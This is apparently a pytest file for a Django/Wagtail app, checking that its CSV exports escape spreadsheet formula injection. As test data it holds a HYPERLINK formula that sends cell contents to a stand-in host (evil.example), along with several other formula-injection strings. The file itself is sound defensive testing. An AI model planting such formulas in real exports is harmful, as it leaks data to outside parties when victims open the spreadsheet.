"""No CSV the product writes can run as a spreadsheet formula.

A name typed into the public form or an admin form as ``=HYPERLINK(...)`` must
reach the hub lead's spreadsheet as text. Every listing export, the reports'
exports and the plan actions CSV are checked with such names in every text
column the demo lets us set.
"""

import csv
import io

from django.urls import reverse

from wagtail.log_actions import log

import pytest

from cms.spreadsheets import csv_safe
from tests.workflows import hubdata
from tests.workflows.test_every_admin_url import body
from workflows.models import ActionPlan, Application, Meeting, Participant, School, Visit, WorkGroup

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")

EXPORTS = [
    ("pd_schools:index", {"export": "csv"}),
    ("pd_workgroups:index", {"export": "csv"}),
    ("pd_enrolments:index", {"export": "csv"}),
    ("pd_participants:index", {"export": "csv"}),
    ("pd_applications:index", {"export": "csv"}),
    ("pd_meetings:index", {"export": "csv"}),
    ("pd_visits:index", {"export": "csv"}),
    ("wagtailsnippets_workflows_actionplan:export_actions", {}),
    ("wagtailadmin_reports:site_history", {"export": "csv"}),
]


@pytest.fixture
def poisoned(demo):
    """Text fields of one record of each kind, typed as formulas."""
    school = School.objects.get(urn=990101)
    School.objects.filter(pk=school.pk).update(name=FORMULA, town="+cmd", postcode="-1+1")
    WorkGroup.objects.filter(code="DEV-26-LDS").update(name=FORMULA, area="@SUM(A1)")
    Participant.objects.filter(pk=Participant.objects.order_by("pk").first().pk).update(
        name=FORMULA
    )
    Application.objects.filter(school=school).update(school_name=FORMULA)
    Meeting.objects.filter(pk=Meeting.objects.order_by("pk").first().pk).update(agenda=FORMULA)
    Visit.objects.filter(pk=Visit.objects.order_by("pk").first().pk).update(purpose="\t=1+1")
    plan = ActionPlan.objects.get(school=school)
    ActionPlan.objects.filter(pk=plan.pk).update(title=FORMULA)
    plan.actions.update(what=FORMULA, owner_name="@lead")
    log(ActionPlan.objects.get(pk=plan.pk), "wagtail.edit", user=hubdata.user("hublead"))
    return school


def cells(text):
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize(("name", "params"), EXPORTS, ids=[n for n, _ in EXPORTS])
def test_every_csv_export_writes_formulas_as_text(client, poisoned, name, params):
    client.force_login(hubdata.user("hublead"))
    response = client.get(reverse(name), params)
    assert response.status_code == 200
    text = body(response)
    found = cells(text)
    assert any("HYPERLINK" in cell for cell in found), "the poisoned record is exported"
    dangerous = [cell for cell in found if cell.startswith(DANGEROUS)]
    assert not dangerous, dangerous


def test_numbers_stay_numbers_and_plain_text_stays_plain():
    assert csv_safe("Brookfield Primary School") == "Brookfield Primary School"
    assert csv_safe(FORMULA) == "'" + FORMULA
    assert csv_safe(None) == ""
